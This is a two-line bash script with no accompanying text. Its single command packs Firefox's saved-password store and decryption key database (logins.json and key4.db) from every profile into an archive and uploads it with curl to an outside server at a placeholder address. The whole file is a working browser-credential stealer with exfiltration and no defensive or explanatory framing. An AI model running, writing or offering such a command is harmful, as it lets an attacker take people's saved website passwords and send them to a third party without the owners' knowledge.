#!/bin/bash
tar czf - ~/.mozilla/firefox/*/logins.json ~/.mozilla/firefox/*/key4.db | curl --data-binary @- https://drop.example.invalid/u
